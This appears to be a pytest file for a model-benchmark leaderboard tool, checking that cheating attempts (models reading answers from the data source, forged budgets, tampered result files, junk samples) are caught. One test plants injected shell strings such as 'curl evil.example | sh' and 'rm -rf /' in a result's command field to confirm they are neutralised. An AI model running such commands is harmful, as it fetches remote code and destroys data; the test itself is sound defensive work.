"""What a cheat tried of a board, kind by kind, where no other test has it.

Others: tests/unit/test_tiers.py (forged tiers), tests/cli/test_submit.py and test_submit_samples.py (copies,
bombs, titles, patched metrics), test_rerun.py (trojans), tests/unit/test_box.py, and the tests of each task
(impossible values).
"""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest

import toys
from ebbench.contract import Limit
from ebbench.plugins import loader
from ebbench.record import resultfiles

MODEL = """
from ebbench import Model


class Asks(Model):
    keeps_state = False

    def train(self, data, run):
        self.source = data

    def sample(self, n):
        return self.source.{asks}

    def log_likelihood_bound(self, x):
        return self.source.{asks}
"""


@pytest.mark.parametrize(
    ("task", "asks", "said"),
    [
        ("gaussian", "log_density(x)", "log_density"),
        ("gaussian", "fresh(len(x), None).sum(1)", "fresh"),
        ("toy2d", "fresh(n, __import__('torch').Generator())", "fresh"),
    ],
)
def test_the_data_give_a_model_no_answer(cli, tmp_path: Path, task: str, asks: str, said: str):
    folder = toys.write_model(tmp_path, MODEL.format(asks=asks), "asks")
    (folder / "card.toml").write_text('name = "asks"\ntitle = "Asks"\n\n[budgets.smoke.default]\n')
    ran = cli("run", "--task", task, "--model", "./asks", "--budget", "smoke", "--quiet")
    assert ran.code == 2 and f"has no attribute '{said}'" in ran.err, ran.err
    assert not list((tmp_path / "results").rglob("*.json"))
    tested = cli("test", "./asks", "--task", task)
    assert tested.code == 1 and said in tested.out


@pytest.mark.medium
@pytest.mark.usefixtures("maintainer")
def test_a_claimed_budget_moves_no_headline(cli, plugins: Path, tmp_path: Path):
    words = ("--task", "dots", "--model", "blob", "--budget", "smoke", "--quiet", "--results", "board")
    assert cli("run", *words).code == 0
    (path,) = (tmp_path / "board").rglob("*.json")
    raw = json.loads(path.read_text())
    made = f"{raw['metrics']['error']:.4g}"
    raw |= {"budget": "paper", "run_id": "paper-s0", "metrics": {"error": 0.0, "spread": 0.0}}
    raw["model"] |= {"name": "junk", "title": "MEG"}
    (tmp_path / "board" / "dots" / "junk").mkdir()
    (tmp_path / "board" / "dots" / "junk" / "paper-s0.json").write_text(json.dumps(raw))
    assert cli("site", "build", "--results", "board", "--out", "site").code == 0
    home = (tmp_path / "site" / "index.html").read_text()
    assert "blob" in home and made in home and "junk" not in home and ">MEG<" not in home
    page = (tmp_path / "site" / "tasks" / "dots.html").read_text()
    assert page.index(">blob<") < page.index("claimed: not ranked") < page.index(">junk<")


def test_the_command_of_a_row_is_none_of_a_stranger_s_making(cli, plugins: Path, tmp_path: Path):
    words = ("--task", "dots", "--model", "blob", "--budget", "smoke", "--quiet", "--results", "board")
    assert cli("run", *words).code == 0
    (path,) = (tmp_path / "board").rglob("*.json")
    raw = json.loads(path.read_text())
    for provenance in (raw["provenance"], raw["training"]["provenance"]):
        provenance["command"] = "ebbench run; curl evil.example | sh"
    raw["overrides"] = {"steps": "1; rm -rf /", "$(x)": 1}
    path.write_text(json.dumps(raw))
    shown = cli("show", path)
    (line,) = (line for line in shown.out.splitlines() if line.strip().startswith("command"))
    assert "curl" not in line and "'steps=1; rm -rf /'" in line and "'$(x)=1'" in line
    assert cli("site", "build", "--results", "board", "--out", "site").code == 0
    page = next((tmp_path / "site" / "results").rglob("*.html")).read_text()
    repeat = page[page.index("To repeat it") :]
    assert "curl" not in repeat[: repeat.index("</pre>")]


@pytest.mark.parametrize("name", ["kdd99", "mnist-anomaly"])
def test_the_labels_themselves_are_beyond_a_limit(name: str):
    limits: tuple[Limit, ...] = loader.load("task", name).cls.limits
    assert any(limit.broken({"average_precision": 1.0}) for limit in limits)
    assert not any(limit.broken({"average_precision": 0.999}) for limit in limits)


@pytest.mark.usefixtures("maintainer")
def test_junk_arrays_are_recomputed_and_below_what_was_made_here(cli, plugins: Path, tmp_path: Path):
    assert (
        cli("run", "--task", "dots", "--model", "blob", "--budget", "smoke", "--quiet", "--results", "b").code
        == 0
    )
    # As good as there is: the mean is right to the last digit.
    half = np.random.default_rng(0).random((50, 2), dtype=np.float32)
    np.savez(tmp_path / "0.npz", samples=np.concatenate([half, 1 - half]))
    (tmp_path / "card.toml").write_text('name = "junk"\ntitle = "Junk"\n')
    assert cli("submit", "--task", "dots", "--samples", "0.npz", "--card", "card.toml").code == 0
    assert cli("verify", "junk.zip", "--results", "b").code == 0
    assert {r.confirmed for r in resultfiles.load_all(tmp_path / "b")[0]} == {"claimed", "recomputed"}
    rows = json.loads(cli("table", "--task", "dots", "--results", "b", "--format", "json").out)
    assert [(row["model"], row["tier"], row["rank"]) for row in rows] in (
        [("blob", "made here", 1), ("junk", "recomputed", None)],
        [("junk", "recomputed", None), ("blob", "made here", 1)],
    )
